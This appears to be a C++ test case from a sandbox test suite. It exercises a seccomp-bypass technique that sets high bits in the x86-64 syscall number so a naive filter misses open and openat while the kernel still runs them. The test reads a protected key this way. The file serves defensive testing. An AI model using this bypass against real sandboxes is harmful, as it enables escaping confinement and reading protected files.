// attack: nr-high-bits
// class: abi
// severity: critical
// models: naive
// needs: x86
// bits: 64, for there are no upper halves in an i386 program
// trap: rax = 0x1_0000_0002: the kernel runs call 2 (open), registers show a number nobody knows.
// naive: Compares 64 bits, finds no such call, lets it pass.
// kernel: do_syscall_64 takes the number as an int; ORIG_RAX keeps all 64 bits, seccomp_data.nr and
//   syscall_info the truncated one.
// sealed: Numbers are ints, from the kernel's own description of the call.
// source: arch/x86/entry/common.c
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: $S/key
#include "tests/support/attack.h"

namespace attack {
namespace {

long raw(unsigned long nr, long a, long b, long c, long d) {
  long result = 0;
  register long r10 asm("r10") = d;
  asm volatile("syscall"
               : "=a"(result)
               : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
               : "rcx", "r11", "memory");
  return result;
}
long address_of(const std::string& s) { return reinterpret_cast<long>(s.c_str()); }

}  // namespace

void strike() {
  std::string key = secret();
  for (unsigned long high : {1UL << 32, 0xffffffffUL << 32, 1UL << 63}) {
    const std::string above = std::to_string(high >> 32) + " above";
    if (way("open, " + above)) {
      take(static_cast<int>(raw(high | SYS_open, address_of(key), O_RDONLY, 0, 0)));
    }
    if (way("openat, " + above)) {
      take(static_cast<int>(raw(high | SYS_openat, AT_FDCWD, address_of(key), O_RDONLY, 0)));
    }
  }
  errno = EACCES;
  held("open");
}

void twin() {
  std::string ok = work("ok.dat");
  auto fd = static_cast<int>(raw(1UL << 32 | SYS_open, address_of(ok), O_RDONLY, 0, 0));
  must(fd >= 0 && read_all(fd) == "harmless\n", "open with high bits works as in the kernel");
  must(raw(0xffffffffUL << 32 | SYS_getpid, 0, 0, 0, 0) == ::getpid(), "getpid");
  twin_ok();
}

}  // namespace attack
